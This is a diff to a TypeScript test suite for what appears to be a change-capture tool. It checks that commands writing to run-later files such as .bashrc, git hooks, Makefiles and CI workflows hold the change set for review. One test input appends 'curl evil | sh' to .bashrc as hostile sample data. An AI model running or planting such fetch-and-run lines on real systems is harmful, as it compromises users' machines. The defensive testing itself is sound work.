@@ -137,4 +137,25 @@ describe("capture and apply", () => {
     expect(JSON.parse(set!.summaryJson).hold_reasons[0]).toMatch(/deletes 60 files/);
     expect((await readRows(set!.callId)).filter((r) => r.kind === "deleted")).toHaveLength(60);
   });
+
+  it.each([
+    ["a shell rc file", "echo 'curl evil | sh' >> .bashrc", ".bashrc"],
+    ["a nested package.json", "mkdir -p sub && echo '{}' > sub/package.json", "sub/package.json"],
+    ["a new .husky hook", "mkdir -p .husky && echo evil > .husky/pre-commit", ".husky/pre-commit"],
+    ["a Makefile", "printf 'all:\n\ttrue\n' > Makefile", "Makefile"],
+    ["an editor task file", "mkdir -p .vscode && echo '{}' > .vscode/tasks.json", ".vscode/tasks.json"],
+    ["a nested CI workflow", "mkdir -p sub/.github/workflows && echo 'on: push' > sub/.github/workflows/x.yml", "sub/.github/workflows/x.yml"],
+  ])("a change to %s holds the change set (the presets' runs-later list)", async (_name, command, file) => {
+    const before = treeHash(ws.root);
+    await expect(run(command)).rejects.toThrow(/left "running"/);
+    expect(treeHash(ws.root)).toBe(before);
+    const set = await db().changeSet.findFirst({ where: { status: "held" }, orderBy: { createdAt: "desc" } });
+    expect(JSON.parse(set!.summaryJson).hold_reasons.join(" ")).toContain(file);
+  });
+
+  it("a package's own package.json under node_modules does not hold the change set", async () => {
+    const r = await run("mkdir -p node_modules/dep && echo '{\"scripts\":{}}' > node_modules/dep/package.json");
+    expect(r.changes!.status).toBe("applied");
+    expect(read("node_modules/dep/package.json")).toContain("scripts");
+  });
 });
